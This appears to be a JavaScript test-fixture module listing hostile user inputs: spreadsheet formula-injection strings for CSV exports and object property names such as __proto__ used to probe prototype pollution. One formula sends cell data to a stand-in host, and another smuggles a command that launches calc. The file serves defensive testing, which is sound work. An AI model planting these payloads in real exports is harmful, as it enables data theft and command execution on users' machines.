// User text that attacks where it lands: spreadsheet formulas (CSV exports) and names that
// are properties of every plain JavaScript object (lookups keyed by user text).
export const FORMULA_NAMES = ['=IMPORTXML(CONCAT("http:x.test?",A1),"a")', "@SUM(1+1)*cmd|' -C calc'!A0", '+1+1', '-2+3', "'=already quoted"];

export const PROTO_NAMES = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'];
